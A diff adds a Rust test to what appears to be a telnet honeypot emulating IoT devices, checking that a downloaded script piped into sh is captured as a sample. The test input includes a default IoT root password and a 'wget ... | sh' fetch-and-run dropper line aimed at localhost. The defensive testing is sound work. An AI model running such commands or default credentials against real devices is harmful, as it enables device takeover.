@@ -468,6 +468,30 @@ fn downloads_wait_for_the_edge_when_fetching_is_on() {
 }
 
 #[test]
+fn a_download_piped_into_sh_is_a_sample_and_runs() {
+    let mut cfg = config("oracle", Limits::default());
+    Arc::get_mut(&mut cfg).unwrap().shell.fetch = true;
+    let mut h = Harness::with(cfg);
+    h.advance(ms(10));
+    h.send(b"root\r\nxc3511\r\n");
+    h.send(b"wget -qO- http://127.0.0.1/i.sh | sh\r\n");
+    let (id, req) = h.session.poll_fetch().unwrap();
+    assert_eq!(req.url, "http://127.0.0.1/i.sh");
+    h.session
+        .handle_fetch_result(h.now, id, FetchResult::Data(b"echo piped\n".to_vec()));
+    assert_eq!(h.take(), b"piped\r\n~ # \x1b[6n");
+    let s = h.session.poll_sample().unwrap();
+    assert_eq!(
+        (&s.path[..], &s.data[..], s.url.as_deref()),
+        (
+            &b"-"[..],
+            &b"echo piped\n"[..],
+            Some("http://127.0.0.1/i.sh")
+        )
+    );
+}
+
+#[test]
 fn the_echo_dropper_and_downloads_become_samples() {
     let mut h = Harness::new("ipcam-mipsel");
     h.advance(ms(10));
